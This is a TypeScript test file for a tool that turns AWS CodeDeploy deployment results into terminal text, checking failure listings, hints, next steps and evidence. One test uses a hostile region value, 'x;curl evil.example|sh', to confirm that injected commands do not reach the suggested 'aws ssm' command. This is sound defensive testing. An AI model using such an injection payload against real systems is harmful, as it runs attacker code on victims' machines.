import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import fc from 'fast-check'
import { type Report, report } from '../../../src/report/report.ts'
import { atOnce } from '../../../src/time/turns.ts'
import { essence } from '../../../tools/watch/essence.ts'
import { hostileOutcome } from '../../support/hostile-outcomes.ts'
import { outcomeRuns } from '../../support/hostile-texts.ts'
import { outcomes } from '../../support/outcomes/outcomes.ts'

const path = '/tmp/report.json'

/** As it is read from the file. */
function parsed(outcome: Parameters<typeof report>[0]): Report {
  return JSON.parse(JSON.stringify(atOnce(report(outcome))))
}

function textOf(name: string, change: (report: Report) => Report = it => it): string {
  const outcome = outcomes[name] ?? assert.fail(name)
  return essence(change(parsed(outcome)), path)
}

test('a failure shows the verdict, each cause with its hint, and what a person can do next', () => {
  const text = textOf('rolled-back')
  assert.match(
    text,
    /^\nDeployment d-\w+ failed · shop \/ production · eu-central-1 · \d+ targets: Failed \d/,
  )
  assert.match(text, /\nFailures\n {2}\d+ targets? +\w+ +\S+ +\w+\n {4}i-/)
  assert.match(text, /\n {4}Hint: /)
  assert.match(text, /\nNext steps\n/)
  assert.match(text, /\n {2}- Rollback d-\w+: Succeeded\n {2}- Console: https:/)
  assert.ok(text.endsWith(`\n  - All of it as JSON: ${path}\n`))
})

test('a success has a verdict and where to look, and no list of failures', () => {
  const text = textOf('success')
  assert.match(text, /^\nDeployment d-\w+ succeeded · shop \/ production/)
  assert.doesNotMatch(text, /Failures|Hint/)
})

test('a failure that was tolerated is shown as one that did not fail the watch', () => {
  assert.match(textOf('tolerated'), /\nFailures that did not fail the watch\n/)
})

test('an error without a deployment shows its code, message and hint', () => {
  const text = textOf('denied')
  assert.match(text, /^\nDeployment d-\w+: the result could not be determined · eu-central-1\n/)
  assert.match(text, /\n {2}AccessDeniedException: arn:aws:sts::.*\n {2}Hint: Allow codedeploy:GetDeployment/)
})

test('invalid inputs are called so', () => {
  assert.match(textOf('bad-inputs'), /^\nThe deployment: the inputs are invalid\n/)
})

test('the first instance of each cause can be opened with a command, other targets cannot', () => {
  const withTargets = (...ids: readonly string[]) =>
    textOf('denied', it => ({ ...it, failures: ids.map(id => ({ ...causeOf(it), targetIds: [id] })) }))
  const [ec2, onPremises] = [withTargets('i-0123456789abcdef0'), withTargets('rack-7')]
  assert.match(
    ec2,
    /- Open the instance: aws ssm start-session --target i-0123456789abcdef0 --region eu-central-1\n/,
  )
  assert.doesNotMatch(onPremises, /start-session/)
  const region = 'x;curl evil.example|sh'
  const elsewhere = textOf('denied', it => ({
    ...it,
    region,
    failures: [{ ...causeOf(it), targetIds: ['i-0123456789abcdef0'] }],
  }))
  assert.match(elsewhere, /- Open the instance: aws ssm start-session --target i-0123456789abcdef0\n/)
  assert.equal(withTargets('i-0123456789abcdef0', 'i-0123456789abcdef0').split('start-session').length, 2)
})

test('of many causes the first ten are shown, and the others counted', () => {
  const text = textOf('denied', it => ({
    ...it,
    failures: Array.from({ length: 12 }, (_, index) => ({ ...causeOf(it), targetIds: [`rack-${index}`] })),
  }))
  assert.match(text, /rack-9\n/)
  assert.doesNotMatch(text, /rack-10/)
  assert.match(text, /\n {2}2 more causes in the report\.\n/)
})

test('what other services say is shown', () => {
  const evidence = [
    { source: 'ecs', about: 'a', at: null, text: 'a task stopped' },
  ] as unknown as Report['evidence']
  assert.match(
    textOf('denied', it => ({ ...it, evidence })),
    /\nEvidence\n {2}- Amazon ECS: a task stopped\n/,
  )
})

function causeOf(_: Report): Report['failures'][number] {
  return {
    errorCode: 'ScriptFailed',
    targetIds: [],
    lifecycleEventName: undefined,
    scriptName: undefined,
    message: undefined,
    tellingLine: undefined,
    logTail: undefined,
    hint: undefined,
  }
}

describe('no text from outside', () => {
  test('reaches the terminal as a control character', () => {
    fc.assert(
      fc.property(hostileOutcome, outcome => {
        // biome-ignore lint/suspicious/noControlCharactersInRegex: that is what is looked for
        assert.doesNotMatch(essence(parsed(outcome), path), /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/)
      }),
      { numRuns: outcomeRuns(50) },
    )
  })
})
